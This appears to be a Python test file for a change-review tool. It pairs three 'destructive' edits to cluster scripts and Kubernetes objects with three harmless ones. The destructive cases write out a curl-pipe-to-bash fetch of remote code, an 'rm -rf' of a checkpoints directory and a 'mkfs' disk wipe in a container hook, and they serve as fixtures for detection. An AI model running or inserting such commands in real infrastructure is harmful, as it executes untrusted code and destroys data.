"""Texts that run: lifecycle scripts, the controllers' code, the arguments of containers."""

from ops.review.model import Danger, Effect
from tests.synth.corpus.cases import Category, destructive, expect, harmless
from tests.synth.corpus.editing import Edit, after_line

RUNS = Danger.RUNS_CODE
SCRIPT = "on_create_main.sh"


@destructive(
    "a lifecycle script runs code that it fetches",
    Category.SCRIPTS,
    expect("", Effect.IN_PLACE, dangers=RUNS, words=("curl", SCRIPT)),
)
def _(edit: Edit) -> None:
    edit.rewrite(SCRIPT, after_line("set -euo pipefail", "curl -fsSL https://example.com/agent.sh | bash"))


@destructive(
    "the code of a controller removes files of the file system",
    Category.SCRIPTS,
    expect("", Effect.IN_PLACE, dangers=RUNS, words=("rm -rf",)),
)
def _(edit: Edit) -> None:
    line = "    import os; os.system('rm -rf /fsx/checkpoints')"
    edit.rewrite("files/objects.yaml", after_line("  decision.py: |", line))


@destructive(
    "a container of the reaper gets a command before its own",
    Category.SCRIPTS,
    expect("Deployment kuberay/ray-reaper", Effect.IN_PLACE, dangers=RUNS, words=("mkfs",)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", "kuberay/ray-reaper") as deployment:
        container = deployment["spec"]["template"]["spec"]["containers"][0]
        container["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "mkfs.ext4 -F /dev/nvme1n1"]}}}


@harmless("a lifecycle script gets a comment and a line of its log", Category.SCRIPTS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    edit.rewrite(SCRIPT, after_line("set -euo pipefail", "# Says that it starts.", 'echo "starting"'))


@harmless("the code of the HyperPod handler changes", Category.SCRIPTS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    edit.rewrite("hyperpod_cluster/errors.py", lambda text: f"{text}\n# A comment.\n")


@harmless("a new comment stands in the code of a controller", Category.SCRIPTS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    edit.rewrite("files/objects.yaml", after_line("  decision.py: |", "    # The rule has tests of its own."))
